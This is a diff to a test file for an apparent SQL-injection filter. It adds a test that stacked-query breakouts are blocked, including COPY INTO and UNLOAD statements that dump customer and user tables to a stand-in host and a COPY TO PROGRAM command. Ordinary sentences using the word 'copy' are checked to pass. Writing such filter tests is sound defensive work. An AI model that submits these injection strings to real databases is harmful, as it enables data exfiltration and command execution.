@@ -753,3 +753,13 @@ def test_a_template_of_sql_is_no_statement(edge):
                           "1 UNION SELECT password FROM users -- {{x}}", "' or 1=1 -- {{ x }}",
                           "{{ x }} union select password from users", "select sleep(5) {{",
                           "select * from users where '{{'='{{'"])
+
+
+def test_copy_after_a_breakout_is_a_statement(edge):
+    """COPY (PostgreSQL's TO PROGRAM, Snowflake's COPY INTO a stage) and
+    UNLOAD are statements a stacked query runs; "copy" in a sentence is a
+    word."""
+    assert_blocked(edge, ["2025-03-01'; COPY INTO 's3://x.example/dump/' FROM core.customers;--",
+                          "1; COPY (SELECT '') TO PROGRAM 'id'",
+                          "x'; UNLOAD ('select * from users') TO 's3://x.example/u';--"])
+    assert_passed(edge, ["Please copy the file; copy it again", "I can't; copy it later"])
